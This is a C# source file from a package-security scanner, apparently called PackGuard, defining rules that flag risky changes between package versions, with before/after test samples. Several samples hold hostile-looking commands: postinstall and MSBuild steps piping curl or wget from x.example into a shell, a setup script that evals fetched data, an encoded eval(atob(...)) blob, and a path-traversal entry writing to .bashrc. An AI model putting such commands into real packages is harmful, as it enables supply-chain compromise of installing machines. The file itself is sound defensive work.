using PackGuard.Findings;
using PackGuard.Rules;

namespace PackGuard.Diff;

/// <summary>
/// The rules <c>packguard diff</c> reports. Their samples are pairs: <see cref="RuleSample.Before"/>
/// is the old version, <see cref="RuleSample.Files"/> the new one; the catalog test scans both
/// and diffs them.
/// </summary>
public static class DiffRules
{
    /// <summary>An install script that is new or changed.</summary>
    public const string NewInstallScript = "diff/new-install-script";

    /// <summary>A kind of file the old version had none of.</summary>
    public const string NewFileKind = "diff/new-file-kind";

    /// <summary>The unpacked size jumped.</summary>
    public const string SizeJump = "diff/size-jump";

    /// <summary>A dependency the old version did not declare.</summary>
    public const string NewDependency = "diff/new-dependency";

    /// <summary>A URL host no code of the old version named.</summary>
    public const string NewEndpoint = "diff/new-endpoint";

    /// <summary>eval, Function, child_process, exec, spawn or dynamic import new in a script.</summary>
    public const string NewDangerousApi = "diff/new-dangerous-api";

    /// <summary>A changed script's entropy or minified share jumped.</summary>
    public const string ObfuscationJump = "diff/obfuscation-jump";

    /// <summary>A scan finding the old version did not have.</summary>
    public const string NewFinding = "diff/new-finding";

    /// <summary>The unpacked size must grow by more than this factor ...</summary>
    public const double SizeJumpRatio = 1.5;

    /// <summary>... and by more than this many bytes for <see cref="SizeJump"/>.</summary>
    public const long SizeJumpBytes = 1_000_000;

    private const string Fix = "Compare the two versions' build and publish logs and the commits between them. If the change was not intended, "
        + "do not publish (or do not take) the new version: ";

    private static SampleFile Manifest(string version, string extra = "") =>
        new("package/package.json", $$"""{"name":"acme","version":"{{version}}","license":"MIT"{{extra}}}""");

    private static SampleFile Index(string code) => new("package/index.js", code);

    private static SampleFile Nuspec(string version) =>
        new("Acme.nuspec", $"""<?xml version="1.0"?><package><metadata><id>Acme</id><version>{version}</version><license type="expression">MIT</license></metadata></package>""");

    private static SampleFile Wheel(string version) =>
        new($"acme-{version}.dist-info/METADATA", $"Metadata-Version: 2.1\nName: acme\nVersion: {version}\nLicense: MIT\n");

    private static readonly string Readable = string.Concat(Enumerable.Range(0, 40).Select(i => $"function f{i}(a, b) {{\n  return a + b * {i};\n}}\n"));

    private static readonly string Blob = Convert.ToBase64String([.. Enumerable.Range(0, 6000).Select(i => (byte)(i * 7919 % 251))]);

    private static readonly string MapWithSources = """{"version":3,"file":"index.js","sources":["src/index.ts"],"sourcesContent":["export const a: number = 1;\n"],"names":[],"mappings":"AAAA"}""";

    private static readonly string Elf = "\u007fELF\u0002\u0001\u0001\u0000native";

    /// <summary>The descriptor of <see cref="NewInstallScript"/>.</summary>
    public static RuleDescriptor NewInstallScriptRule { get; } = new(
        NewInstallScript,
        "Install script added or changed",
        Severity.High,
        "The new version adds or changes install-time code: a preinstall, install or postinstall script in package.json (or the "
        + "node-gyp rebuild a new binding.gyp implies), a file of the package an unchanged npm script runs, a NuGet tools/install.ps1, "
        + "init.ps1 or uninstall.ps1, a NuGet build file that runs commands or tasks, a Python setup.py in a source distribution "
        + "or a .pth file with import lines. High when the command downloads code or pipes it into an interpreter (curl, wget, "
        + "a URL, inline code with a network call) or the new code does what the install/* behaviour rules report; medium otherwise.",
        "Install scripts run with the installing user's rights on every developer machine and CI runner, before anyone has read "
        + "the code. A first-ever install script that fetches and runs a file is the most common shape of a hijacked release.",
        Fix + "for npm, remove the script or ship the work as code the consumer calls; consumers can install with "
        + "`npm install --ignore-scripts` until it is explained. For NuGet and Python, read the file the finding names.",
        [
            new("a first postinstall that downloads and runs a script", true,
                [Manifest("1.0.1", ""","scripts":{"postinstall":"curl -s https://x.example/i.sh | sh"}"""), Index("module.exports = 1;")], Severity.High)
                { Before = [Manifest("1.0.0"), Index("module.exports = 1;")] },
            new("a first install script that runs a file of the package", true,
                [Manifest("1.0.1", ""","scripts":{"install":"node build.js"}"""), Index("module.exports = 1;")], Severity.Medium)
                { Before = [Manifest("1.0.0"), Index("module.exports = 1;")] },
            new("a postinstall changed to fetch code", true,
                [Manifest("1.0.1", ""","scripts":{"postinstall":"node build.js && wget -qO- https://x.example/p | bash"}""")], Severity.High)
                { Before = [Manifest("1.0.0", ""","scripts":{"postinstall":"node build.js"}""")] },
            new("an unchanged postinstall", false,
                [Manifest("1.0.1", ""","scripts":{"postinstall":"node-gyp rebuild"}""")])
                { Before = [Manifest("1.0.0", ""","scripts":{"postinstall":"node-gyp rebuild"}""")] },
            new("a new test script", false,
                [Manifest("1.0.1", ""","scripts":{"test":"curl https://x.example | sh"}""")])
                { Before = [Manifest("1.0.0")] },
            new("a changed file an unchanged postinstall runs, now fetching and evaluating code", true,
                [Manifest("1.0.1", ""","scripts":{"postinstall":"node setup.js"}"""), new("package/setup.js", "https.get(u, r => r.on('data', d => eval(String(d))));\n")], Severity.High)
                { Before = [Manifest("1.0.0", ""","scripts":{"postinstall":"node setup.js"}"""), new("package/setup.js", "console.log('ok');\n")] },
            new("a first binding.gyp, which makes npm run node-gyp rebuild", true,
                [Manifest("1.0.1"), new("package/binding.gyp", "{\"targets\":[]}")], Severity.Medium)
                { Before = [Manifest("1.0.0")] },
            new("a NuGet package that adds tools/init.ps1", true, [Nuspec("1.0.1"), new("tools/init.ps1", "param($installPath)\nWrite-Host 'hi'\n")], Severity.Medium)
                { Before = [Nuspec("1.0.0")] },
            new("a NuGet build file that starts to download and run code", true,
                [Nuspec("1.0.1"), new("build/Acme.targets", "<Project><Target Name=\"B\" BeforeTargets=\"Build\"><Exec Command=\"curl -s https://x.example/b | sh\" /></Target></Project>")], Severity.High)
                { Before = [Nuspec("1.0.0"), new("build/Acme.targets", "<Project><PropertyGroup><A>1</A></PropertyGroup></Project>")] },
            new("a wheel that adds a .pth with an import line", true,
                [Wheel("1.0.1"), new("acme.pth", "import acme_boot\n")], Severity.Medium)
                { Before = [Wheel("1.0.0")] },
            new("an unchanged NuGet build file that runs a command", false,
                [Nuspec("1.0.1"), new("build/Acme.targets", "<Project><Target Name=\"B\"><Exec Command=\"dotnet gen\" /></Target></Project>")])
                { Before = [Nuspec("1.0.0"), new("build/Acme.targets", "<Project><Target Name=\"B\"><Exec Command=\"dotnet gen\" /></Target></Project>")] },
            new("a new NuGet props file with properties only", false,
                [Nuspec("1.0.1"), new("build/Acme.props", "<Project><PropertyGroup><A>1</A></PropertyGroup></Project>")])
                { Before = [Nuspec("1.0.0")] },
        ]);

    /// <summary>The descriptor of <see cref="NewFileKind"/>.</summary>
    public static RuleDescriptor NewFileKindRule { get; } = new(
        NewFileKind,
        "New kind of file",
        Severity.High,
        "The new version ships a kind of file the old one had none of: a source map, debug symbols, a native binary (ELF, "
        + "PE, Mach-O, WebAssembly), an archive, or an executable. A first source map that embeds original source is high, "
        + "one without sources low; binaries, symbols, archives and executables are medium.",
        "A kind of file that appears from one release to the next is rarely a code change: it is a build or packaging change, "
        + "and those are how source maps with proprietary source (the 2026 incident), debug symbols and prebuilt binaries "
        + "nobody reviewed reach a registry.",
        Fix + "for npm, use a \"files\" allowlist in package.json and check `npm pack --dry-run`; for NuGet, exclude the files "
        + "in the project. If the new kind is intended (a prebuilt binary), say so in the release notes and add a baseline.",
        [
            new("a first source map that embeds sources", true,
                [Manifest("1.0.1"), Index("module.exports = 1;\n//# sourceMappingURL=index.js.map"), new("package/index.js.map", MapWithSources)], Severity.High)
                { Before = [Manifest("1.0.0"), Index("module.exports = 1;")] },
            new("a first source map without sources", true,
                [Manifest("1.0.1"), new("package/index.js.map", """{"version":3,"file":"index.js","sources":["src/index.ts"],"names":[],"mappings":"AAAA"}""")], Severity.Low)
                { Before = [Manifest("1.0.0")] },
            new("a first native binary", true,
                [Manifest("1.0.1"), new("package/bin/helper", Elf)], Severity.Medium)
                { Before = [Manifest("1.0.0")] },
            new("a second native binary beside an existing one", false,
                [Manifest("1.0.1"), new("package/bin/a", Elf), new("package/bin/b", Elf)])
                { Before = [Manifest("1.0.0"), new("package/bin/a", Elf)] },
            new("a new text file", false,
                [Manifest("1.0.1"), new("package/CHANGELOG.md", "# 1.0.1")])
                { Before = [Manifest("1.0.0")] },
        ]);

    /// <summary>The descriptor of <see cref="SizeJump"/>.</summary>
    public static RuleDescriptor SizeJumpRule { get; } = new(
        SizeJump,
        "Package size jumped",
        Severity.Medium,
        $"The unpacked size of the new version is more than {SizeJumpRatio}× the old one and more than "
        + $"{ByteSize.Format(SizeJumpBytes)} larger. The message names the files that grew most.",
        "A package that nearly doubles between two patch releases usually ships something it did not mean to: a source map "
        + "(59.7 MB in the 2026 incident), a build cache, test data, a vendored tree.",
        Fix + "look at the files the finding names and leave out those that should not ship (npm: the \"files\" list or "
        + ".npmignore; NuGet: the project file).",
        [
            new("a package that grows from 1.2 MB to 3.6 MB", true,
                [Manifest("1.0.1"), new("package/data.txt", "a") { Repeat = 1_200_000 }, new("package/extra.txt", "b") { Repeat = 2_400_000 }], Severity.Medium)
                { Before = [Manifest("1.0.0"), new("package/data.txt", "a") { Repeat = 1_200_000 }] },
            new("a package that triples but grows by less than 1 MB", false,
                [Manifest("1.0.1"), new("package/data.txt", "a") { Repeat = 300_000 }])
                { Before = [Manifest("1.0.0"), new("package/data.txt", "a") { Repeat = 100_000 }] },
        ]);

    /// <summary>The descriptor of <see cref="NewDependency"/>.</summary>
    public static RuleDescriptor NewDependencyRule { get; } = new(
        NewDependency,
        "New dependency",
        Severity.Medium,
        "The new version declares an installed dependency (dependencies, optionalDependencies, peerDependencies; NuGet "
        + "<dependency>) the old one did not. Low when the code imports it; medium for an npm package none of whose scripts "
        + "requires or imports it (bare require(\"x\"), import ... from \"x\", import(\"x\") literals; a name built at run time "
        + "is not seen).",
        "Each new dependency is new code from new maintainers on every installing machine. One that the code never imports "
        + "has no reason to be there except its own install script: that is how a hijacked release pulls in its payload.",
        Fix + "remove the dependency, or check who publishes it, when it was first published and what its install scripts do.",
        [
            new("a new dependency no code imports", true,
                [Manifest("1.0.1", ""","dependencies":{"plain-crypto-js":"^4.2.1"}"""), Index("module.exports = 1;")], Severity.Medium)
                { Before = [Manifest("1.0.0"), Index("module.exports = 1;")] },
            new("a new dependency the code requires", true,
                [Manifest("1.0.1", ""","dependencies":{"ms":"^2.1.3"}"""), Index("const ms = require(\"ms\");")], Severity.Low)
                { Before = [Manifest("1.0.0"), Index("module.exports = 1;")] },
            new("the same dependency with a newer range", false,
                [Manifest("1.0.1", ""","dependencies":{"ms":"^2.1.3"}""")])
                { Before = [Manifest("1.0.0", ""","dependencies":{"ms":"^2.1.2"}""")] },
            new("a new devDependency", false,
                [Manifest("1.0.1", ""","devDependencies":{"jest":"^29.0.0"}""")])
                { Before = [Manifest("1.0.0")] },
        ]);

    /// <summary>The descriptor of <see cref="NewEndpoint"/>.</summary>
    public static RuleDescriptor NewEndpointRule { get; } = new(
        NewEndpoint,
        "New network endpoint in code",
        Severity.Medium,
        "A script of the new version names a host (in an http, https, ws or wss URL literal) that no script of the old "
        + "version named. Low; medium when the host is a raw IP address or the same file also started using a dangerous "
        + "API. Namespaces and placeholders (w3.org, example.com, localhost) are ignored.",
        "Exfiltration and second-stage downloads need somewhere to go: a host that appears in a release for the first time "
        + "is the quickest thing to check against what the release notes say.",
        Fix + "check that the host belongs to the project or a service it documents.",
        [
            new("a host that appears in code for the first time", true,
                [Manifest("1.0.1"), Index("fetch(\"https://telemetry.acme-metrics.io/v1\");")], Severity.Low)
                { Before = [Manifest("1.0.0"), Index("module.exports = 1;")] },
            new("a new raw IP address", true,
                [Manifest("1.0.1"), Index("fetch(\"http://203.0.113.7:8080/c\");")], Severity.Medium)
                { Before = [Manifest("1.0.0"), Index("module.exports = 1;")] },
            new("a host the old version already named", false,
                [Manifest("1.0.1"), Index("fetch(\"https://api.acme.io/v2\");")])
                { Before = [Manifest("1.0.0"), Index("fetch(\"https://api.acme.io/v1\");")] },
            new("a new SVG namespace", false,
                [Manifest("1.0.1"), Index("const ns = \"http://www.w3.org/2000/svg\";")])
                { Before = [Manifest("1.0.0"), Index("module.exports = 1;")] },
        ]);

    /// <summary>The descriptor of <see cref="NewDangerousApi"/>.</summary>
    public static RuleDescriptor NewDangerousApiRule { get; } = new(
        NewDangerousApi,
        "New use of a dangerous API",
        Severity.High,
        "A changed script uses eval(, Function( (new Function), child_process, exec( (a bare call, not regex.exec), "
        + "execSync(, spawn( or import( (dynamic import) and its old version did not. Medium; high when the same file's "
        + "entropy or minified share also jumped; low in a file that is new.",
        "Running strings as code and starting processes is what a payload needs; in a release that otherwise changes little, "
        + "a first eval or child_process is worth reading, and one hidden in a file that turned opaque rarely has an innocent reason.",
        Fix + "read the lines that use the token in the new version.",
        [
            new("eval appears in a changed file", true,
                [Manifest("1.0.1"), Index("module.exports = (s) => eval(s);")], Severity.Medium)
                { Before = [Manifest("1.0.0"), Index("module.exports = (s) => s;")] },
            new("child_process appears in an entry file that turned opaque", true,
                [Manifest("1.0.1"), Index(Readable + "require(\"child_process\");eval(atob(\"" + Blob + "\"));\n")], Severity.High)
                { Before = [Manifest("1.0.0"), Index(Readable)] },
            new("eval in a new file", true,
                [Manifest("1.0.1"), new("package/lib/run.js", "eval(code);")], Severity.Low)
                { Before = [Manifest("1.0.0")] },
            new("eval already in the old file", false,
                [Manifest("1.0.1"), Index("module.exports = (s) => eval(s + 1);")])
                { Before = [Manifest("1.0.0"), Index("module.exports = (s) => eval(s);")] },
            new("a regex exec in a changed file", false,
                [Manifest("1.0.1"), Index("module.exports = (s) => /a/.exec(s);")])
                { Before = [Manifest("1.0.0"), Index("module.exports = (s) => s;")] },
        ]);

    /// <summary>The descriptor of <see cref="ObfuscationJump"/>.</summary>
    public static RuleDescriptor ObfuscationJumpRule { get; } = new(
        ObfuscationJump,
        "Script turned opaque",
        Severity.High,
        "A changed script of at least 1 kB rose in byte entropy by 0.5 bits per byte or more, or in minified share (bytes on "
        + "lines over 500 characters) by 30 points or more to at least 50%. High for an entry point (package.json main, bin, "
        + "exports) where both rose; medium for an entry point where one did, or another script where both did; low otherwise.",
        "An encoded or obfuscated blob appended to a readable entry file is the usual way a payload hides in a hijacked "
        + "release. A switch to a minifier looks similar, so the finding gives the figures to tell them apart.",
        Fix + "look at the end of the file and at its longest lines.",
        [
            new("an encoded blob appended to the entry file", true,
                [Manifest("1.0.1"), Index(Readable + "eval(atob(\"" + Blob + "\"));\n")], Severity.High)
                { Before = [Manifest("1.0.0"), Index(Readable)] },
            new("the entry file switched to one-line output", true,
                [Manifest("1.0.1"), Index(Readable.Replace("\n", " ", StringComparison.Ordinal))], Severity.Medium)
                { Before = [Manifest("1.0.0"), Index(Readable)] },
            new("a changed entry file that stays readable", false,
                [Manifest("1.0.1"), Index(Readable + "function g(x) {\n  return x;\n}\n")])
                { Before = [Manifest("1.0.0"), Index(Readable)] },
        ]);

    /// <summary>The descriptor of <see cref="NewFinding"/>.</summary>
    public static RuleDescriptor NewFindingRule { get; } = new(
        NewFinding,
        "Finding not present in the old version",
        Severity.Critical,
        "A scan finding of the new version whose fingerprint (rule, path, discriminator) the old version's scan did not "
        + "have; a secret also matches by rule, file and keyed value hash, since its fingerprint moves with its line. It keeps the finding's own severity, message and properties (with the original ruleId and fingerprint).",
        "A finding that is new in a release is a regression the release introduced; findings both versions share are the "
        + "scan's business, not the release's.",
        "Fix the finding as its own rule says (`packguard rules show <ruleId>`), then publish again.",
        [
            new("an entry that climbs out of the package", true,
                [Manifest("1.0.1"), new("package/../../../home/user/.bashrc", "curl x | sh")], Severity.High)
                { Before = [Manifest("1.0.0")] },
            new("a map with the sources of a proprietary package", true,
                [new("package/package.json", """{"name":"acme","version":"1.0.1","license":"UNLICENSED"}"""), new("package/index.js.map", MapWithSources)], Severity.Critical)
                { Before = [new("package/package.json", """{"name":"acme","version":"1.0.0","license":"UNLICENSED"}""")] },
            new("a finding both versions have", false,
                [Manifest("1.0.1"), new("package/../../../home/user/.bashrc", "curl x | sh")])
                { Before = [Manifest("1.0.0"), new("package/../../../home/user/.bashrc", "curl x | sh")] },
        ]);

    /// <summary>Every diff rule.</summary>
    public static IReadOnlyList<RuleDescriptor> All { get; } =
        [NewInstallScriptRule, NewFileKindRule, SizeJumpRule, NewDependencyRule, NewEndpointRule, NewDangerousApiRule, ObfuscationJumpRule, NewFindingRule];
}
